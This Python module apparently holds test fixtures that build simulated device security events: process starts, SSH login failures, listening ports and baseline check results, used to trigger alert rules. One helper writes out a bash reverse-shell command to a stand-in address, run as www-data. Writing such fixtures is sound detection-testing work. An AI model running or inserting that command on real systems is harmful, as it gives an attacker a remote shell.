"""Security messages in the form that devices send them."""

import uuid
from datetime import datetime, timedelta, timezone

AGENT_ID = "1b6f0c52-3a77-4c0e-9a50-2f4f5d1f7a11"


def now() -> datetime:
    return datetime.now(timezone.utc)


def new_id() -> str:
    return str(uuid.uuid4())


def message(*events: dict) -> dict:
    return {"AgentVersion": "0.1.0", "AgentId": AGENT_ID, "MessageSchemaVersion": "1.0", "Events": list(events)}


def event(name: str, items: list[dict], when: datetime | None = None, event_id: str | None = None,
          category: str = "Triggered") -> dict:
    when = when or now()
    return {
        "Id": event_id or new_id(),
        "TimestampLocal": when.astimezone(timezone(timedelta(hours=1))).isoformat(timespec="microseconds"),
        "TimestampUTC": when.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        "Category": category,
        "Name": name,
        "EventType": "Security",
        "IsEmpty": category == "Periodic" and not items,
        "PayloadSchemaVersion": "1.0",
        "Payload": items,
    }


def snapshot(name: str, items: list[dict], **options) -> dict:
    return event(name, items, category="Periodic", **options)


def process_start(command_line: str, **options) -> dict:
    item = {
        "Executable": "/bin/bash", "ProcessId": 900, "ParentProcessId": 1,
        "UserId": "33", "UserName": "www-data", "CommandLine": command_line,
    }
    return event("ProcessCreate", [item], **options)


def reverse_shell(mark: str = "", **options) -> dict:
    """A process start that raises an alert; `mark` tells it from others."""
    return process_start(f"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1{' # ' + mark if mark else ''}", **options)


def login(address: str, is_success: bool, user: str = "root", **options) -> dict:
    item = {
        "ProcessId": 955, "UserName": user, "Operation": "PAM:authentication", "Executable": "/usr/sbin/sshd",
        "RemoteAddress": address, "Result": "Success" if is_success else "Fail",
    }
    return event("Login", [item], **options)


def failed_logins(address: str, count: int = 12) -> list[dict]:
    """Failures one second apart, the last at the end of the minute before this one: windows of rules end at whole
    minutes, and all of these are to be in one."""
    last = now().replace(second=59, microsecond=0) - timedelta(minutes=1)
    return [login(address, False, when=last - timedelta(seconds=count - 1 - i)) for i in range(count)]


def listening_ports(*endpoints: str, **options) -> dict:
    """A snapshot of endpoints such as `0.0.0.0:22`."""
    split = [endpoint.rsplit(":", 1) for endpoint in endpoints]
    items = [
        {"Protocol": "tcp", "LocalAddress": address, "LocalPort": port, "RemoteAddress": "0.0.0.0", "RemotePort": "*"}
        for address, port in split
    ]
    return snapshot("ListeningPorts", items, **options)


def failed_check(**options) -> dict:
    """A snapshot of the baseline with one failure."""
    item = {
        "CceId": "CCE-4325-7", "Description": "only protocol 2", "Result": "Fail", "Error": "", "Severity": "Critical",
    }
    return snapshot("OSBaseline", [item], **options)
